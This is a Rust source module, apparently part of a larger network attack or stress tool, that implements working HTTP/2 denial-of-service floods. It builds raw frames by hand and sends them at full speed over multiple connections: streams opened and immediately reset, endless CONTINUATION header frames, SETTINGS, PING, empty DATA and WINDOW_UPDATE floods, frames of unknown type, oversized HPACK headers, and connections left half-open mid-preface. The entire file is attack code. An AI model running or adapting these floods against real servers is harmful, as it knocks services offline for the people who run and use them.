//! Attacks with frames of HTTP/2.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Attack;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// Their flags.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /` or `POST /` of nobody, in HPACK: entries of the static table, and a literal for the authority.
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'x'];
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'x'];

/// Frames that are written at once.
const BURST: u32 = 64;

/// Starts all of them.
pub fn start(attack: &Attack, attackers: &mut JoinSet<()>) {
    flood(
        attack,
        attackers,
        "streams opened and reset",
        21,
        |number, out| {
            let stream = 2 * number + 1;
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream, GET);
            frame(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        },
    );
    flood(attack, attackers, "headers that go on", 22, |number, out| {
        if number == 0 {
            frame(out, HEADERS, END_STREAM, 1, GET);
        }
        // A literal without indexing, over and over.
        let mut block = vec![0, 1, b'n', 100];
        block.extend([b'v'; 100]);
        frame(out, CONTINUATION, 0, 1, &block.repeat(10));
    });
    flood(attack, attackers, "settings", 23, |_, out| {
        frame(out, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
    });
    flood(attack, attackers, "pings", 24, |number, out| {
        frame(out, PING, 0, 0, &u64::from(number).to_be_bytes());
    });
    flood(attack, attackers, "empty data", 25, |number, out| {
        if number == 0 {
            frame(out, HEADERS, END_HEADERS, 1, POST);
        }
        frame(out, DATA, 0, 1, &[]);
    });
    flood(attack, attackers, "windows of nothing", 26, |number, out| {
        let stream = 2 * number + 1;
        frame(out, HEADERS, END_HEADERS | END_STREAM, stream, GET);
        frame(out, WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes());
    });
    flood(attack, attackers, "frames of no kind", 27, |number, out| {
        frame(out, 0xbb, 0xff, number, &[0x5a; 1000]);
    });
    flood(
        attack,
        attackers,
        "headers of many kilobytes",
        28,
        |number, out| {
            let mut block = GET.to_vec();
            block.extend([0, 1, b'n', 127]);
            // An integer of HPACK: 127 and the rest in sevens of bits.
            let length = 16_000_u32 - 127;
            block.extend([(length & 0x7f) as u8 | 0x80, (length >> 7) as u8]);
            block.resize(block.len() + 16_000, b'v');
            let (first, rest) = block.split_at(16_000);
            frame(out, HEADERS, END_STREAM, 2 * number + 1, first);
            frame(out, CONTINUATION, END_HEADERS, 2 * number + 1, rest);
        },
    );
}

/// Four connections on which frames are sent as fast as they go, without a look at the answers but to let them pass.
fn flood(
    attack: &Attack,
    attackers: &mut JoinSet<()>,
    what: &'static str,
    from: u8,
    put: impl Fn(u32, &mut Vec<u8>) + Copy + Send + Sync + 'static,
) {
    attack.repeat(attackers, what, (4, from), move |_, stream| async move {
        let (mut read, mut write) = stream.into_split();
        let mut opening = PREFACE.to_vec();
        frame(&mut opening, SETTINGS, 0, 0, &[]);
        write.write_all(&opening).await?;
        let drain = async {
            let mut buffer = vec![0; 16 << 10];
            loop {
                if read.read(&mut buffer).await? == 0 {
                    return io::Result::<()>::Err(io::ErrorKind::UnexpectedEof.into());
                }
            }
        };
        let fill = async {
            let mut number = 0;
            loop {
                let mut out = Vec::new();
                for _ in 0..BURST {
                    put(number, &mut out);
                    number += 1;
                }
                tokio::time::timeout(Duration::from_secs(5), write.write_all(&out))
                    .await
                    .map_err(|_| io::Error::from(io::ErrorKind::TimedOut))??;
            }
        };
        tokio::select! {
            ended = drain => ended,
            ended = fill => ended,
        }
    });
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = (payload.len() as u32).to_be_bytes();
    out.extend(&length[1..]);
    out.extend([kind, flags]);
    out.extend((stream & 0x7fff_ffff).to_be_bytes());
    out.extend(payload);
}

/// Opens a connection, and leaves it in the middle of the preface.
///
/// # Errors
/// The server does not take it.
pub async fn half_open(attack: &Attack, from: u8) -> io::Result<TcpStream> {
    let mut stream = attack.connect(from).await?;
    stream.write_all(&PREFACE[..10]).await?;
    Ok(stream)
}
